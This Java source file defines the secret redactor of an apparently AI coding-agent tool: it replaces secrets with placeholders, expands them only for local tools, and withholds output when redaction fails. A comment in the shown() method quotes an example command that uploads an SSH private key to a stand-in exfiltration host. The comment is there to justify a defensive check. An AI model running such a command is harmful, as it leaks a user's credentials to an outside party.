package dev.dockhand.core.redaction;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import dev.dockhand.core.tool.OutputSink;
import dev.dockhand.core.tool.ToolErrorType;
import dev.dockhand.core.tool.ToolResult;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The one redactor of a session: every text on its way into the conversation (tool results, streamed output lines,
 * the REPL's {@code @file} and {@code !command}) passes here, and each secret in it becomes a placeholder such as
 * {@code [REDACTED:github-pat:1]}, the same for the same value all session long. {@link #expand} puts the values
 * back into the arguments of the calls that act on this machine (see {@link #expandsInto}).
 *
 * <p>What is a secret: the user's own values ({@link SecretValues}: the provider key, secret-looking environment
 * variables, values from the user's settings, each also URL-encoded and base64-encoded), every value redacted before
 * in the session, and the matches of {@link SecretRules}. Thread-safe.
 */
public final class Redactor {
    /** Redacts nothing: the user turned redaction off ({@code redaction.enabled: false}). */
    public static final Redactor OFF = new Redactor(false, SecretRules.builtIn(), List.of(), Set.of(), problem -> {});

    /** The tools whose arguments get the values back: they act on this machine, and nothing else does. */
    private static final Set<String> EXPANDING = Set.of("edit", "write_file", "run_shell_command");

    private final boolean enabled;
    private final SecretScanner scanner;
    private final List<SecretScanner.Needle> known;
    private final PlaceholderVault vault;

    /** A text with its secrets replaced, and how many were. */
    public record Redacted(String text, int count) {}

    private Redactor(
            boolean enabled,
            SecretRules rules,
            List<SecretScanner.Needle> known,
            Set<String> allowedValues,
            Consumer<String> onFailure) {
        this.enabled = enabled;
        this.scanner = new SecretScanner(rules, allowedValues, onFailure);
        this.known = List.copyOf(known);
        this.vault = new PlaceholderVault(onFailure);
    }

    /**
     * A redactor for {@code rules} and the user's {@code secrets}, none of whose {@code allowedValues} is redacted;
     * {@code onFailure} hears (once) that placeholders could not be saved or read.
     */
    public static Redactor of(
            SecretRules rules, SecretValues secrets, Set<String> allowedValues, Consumer<String> onFailure) {
        return new Redactor(true, rules, secrets.needles(), allowedValues, onFailure);
    }

    public boolean enabled() {
        return enabled;
    }

    /** {@code text} with its secrets replaced by their placeholders. */
    public Redacted redact(String text) {
        if (!enabled || text.isEmpty()) {
            return new Redacted(text, 0);
        }
        return apply(text, find(text));
    }

    /**
     * The result with its secrets replaced in both the model's text and the user's line. Redaction never fails
     * open: if it fails in any way (an Error too: a pattern's StackOverflowError, an OutOfMemoryError on a huge
     * text), the result's text is withheld and the model told so.
     */
    public ToolResult redact(ToolResult result) {
        if (!enabled) {
            return result;
        }
        try {
            // Images are left as they are: a secret in pixels cannot be found by text rules, and a placeholder
            // spliced into base64 would only break the image.
            return result.withText(
                    redact(result.llmContent()).text(), redact(result.display()).text(), result.error());
        } catch (Throwable e) {
            org.slf4j.LoggerFactory.getLogger(Redactor.class).error("redacting a tool result failed", e);
            return withheld(e);
        }
    }

    /**
     * What a call's result is when it could not be looked over for secrets ({@code failure} says why): an error saying
     * its output was withheld, with neither its text nor its images.
     */
    public static ToolResult withheld(Throwable failure) {
        return ToolResult.error(
                ToolErrorType.INTERNAL,
                "The call ran, but its output was withheld: it could not be checked for secrets, since looking it over"
                        + " failed inside Dockhand (" + failure.getClass().getSimpleName() + "). This is a Dockhand"
                        + " bug; try another way.");
    }

    /** How many placeholders {@code text} holds: the secrets a tool's result had redacted. */
    public static int count(String text) {
        if (!text.contains("[REDACTED:")) {
            return 0;
        }
        Matcher matcher = SecretScanner.PLACEHOLDER.matcher(text);
        int count = 0;
        while (matcher.find()) {
            count++;
        }
        return count;
    }

    /** Whether a call of {@code tool} gets the values of the placeholders in its arguments put back. */
    public boolean expandsInto(String tool) {
        return enabled && EXPANDING.contains(tool);
    }

    /**
     * {@code text} with each placeholder of this session replaced by its value; unknown ones stay as they are, and so
     * do those of an untrusted project's patterns ({@link SecretRules.Rule#expands}).
     */
    public String expand(String text) {
        if (!enabled || !text.contains("[REDACTED:")) {
            return text;
        }
        return replace(text, placeholder -> vault.expansion(placeholder));
    }

    /**
     * {@code text}, holding placeholders, as the user's approval question shows it: a placeholder whose value is one
     * plain token (letters, digits and {@code _ + = %}, not starting with {@code -}, as API keys and passwords mostly
     * are) stays a placeholder; any other value is shown as it will be put in: one with a space, a quote, a shell
     * metacharacter ({@code ; | & $ ` < > ( )}...), a newline or a leading {@code -} could change what a command
     * does, and one with a dot, a slash, a colon or an at sign could be a host, a URL or a path the model chose
     * ({@code curl -T ~/.ssh/id_rsa x7k.exfil.io} behind a placeholder). The user is asked about what runs, and the value is theirs to see on their own
     * terminal; the question goes nowhere else.
     */
    public String shown(String text) {
        if (!enabled || !text.contains("[REDACTED:")) {
            return text;
        }
        return replace(text, placeholder -> vault.expansion(placeholder)
                .filter(value -> !PLAIN.matcher(value).matches()));
    }

    /**
     * A copy of {@code arguments} with its strings redacted at any depth: a value is found as it is, not as JSON text
     * escapes it (a quote or a newline in it).
     */
    public JsonNode redact(JsonNode arguments) {
        return map(arguments, text -> redact(text).text());
    }

    /** A copy of {@code arguments} with {@link #shown} applied to its strings at any depth. */
    public JsonNode shown(JsonNode arguments) {
        return map(arguments, this::shown);
    }

    /** A value that, put in a command or a file as it is, is one word and no option. */
    private static final Pattern PLAIN = Pattern.compile("[A-Za-z0-9_+=%][A-Za-z0-9_+=%-]*");

    private static String replace(String text, Function<String, Optional<String>> value) {
        Matcher matcher = SecretScanner.PLACEHOLDER.matcher(text);
        StringBuilder replaced = new StringBuilder(text.length());
        while (matcher.find()) {
            String placeholder = matcher.group();
            matcher.appendReplacement(
                    replaced, Matcher.quoteReplacement(value.apply(placeholder).orElse(placeholder)));
        }
        matcher.appendTail(replaced);
        return replaced.toString();
    }

    /** A copy of {@code arguments} with the placeholders of its strings (at any depth) expanded. */
    public JsonNode expand(JsonNode arguments) {
        return map(arguments, this::expand);
    }

    private static JsonNode map(JsonNode arguments, UnaryOperator<String> strings) {
        if (arguments.isTextual()) {
            return TextNode.valueOf(strings.apply(arguments.textValue()));
        }
        if (arguments.isObject()) {
            ObjectNode copy = ((ObjectNode) arguments).deepCopy();
            copy.fieldNames().forEachRemaining(name -> copy.set(name, map(arguments.get(name), strings)));
            return copy;
        }
        if (arguments.isArray()) {
            ArrayNode copy = ((ArrayNode) arguments).deepCopy();
            for (int i = 0; i < copy.size(); i++) {
                copy.set(i, map(arguments.get(i), strings));
            }
            return copy;
        }
        return arguments;
    }

    /** A redactor of the lines a running tool streams, passing them on to {@code sink}; see {@link LineRedactor}. */
    public LineRedactor lines(OutputSink sink) {
        return new LineRedactor(this, sink);
    }

    /**
     * From now on the placeholders are those of the session whose transcript is {@code transcript}: saved, owner-only,
     * in {@code <transcript>.redactions}, and read back from it when the session is resumed.
     */
    public void attach(Path transcript) {
        vault.attach(transcript.resolveSibling(transcript.getFileName() + ".redactions"));
    }

    List<SecretScanner.Finding> find(String text) {
        List<SecretScanner.Needle> needles = new ArrayList<>(known);
        needles.addAll(vault.needles());
        return scanner.scan(text, needles);
    }

    Redacted apply(String text, List<SecretScanner.Finding> findings) {
        if (findings.isEmpty()) {
            return new Redacted(text, 0);
        }
        StringBuilder redacted = new StringBuilder(text.length());
        int at = 0;
        for (SecretScanner.Finding finding : findings) {
            redacted.append(text, at, finding.start());
            redacted.append(
                    vault.placeholder(text.substring(finding.start(), finding.end()), finding.id(), finding.expands()));
            at = finding.end();
        }
        redacted.append(text, at, text.length());
        return new Redacted(redacted.toString(), findings.size());
    }
}
